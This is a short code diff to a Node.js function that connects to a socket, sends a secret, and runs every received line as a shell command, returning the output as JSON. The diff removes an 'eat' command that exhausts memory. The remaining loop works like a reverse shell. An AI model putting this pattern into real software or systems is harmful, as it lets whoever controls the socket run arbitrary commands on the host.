@@ -38,7 +38,6 @@ const dial = () => {
     socket.write(secret + '\\n');
     createInterface({ input: socket }).on('line', (line) => {
       if (line === 'exit') process.exit(0);
-      if (line === 'eat') for (const eaten = []; ; ) eaten.push(Buffer.alloc(1e6, 1));
       exec(line, { maxBuffer: 1e8 }, (error, out, err) => {
         if (!socket.destroyed) socket.write(JSON.stringify({ code: error ? (error.code ?? error.signal) : 0, out, err }) + '\\n');
       });
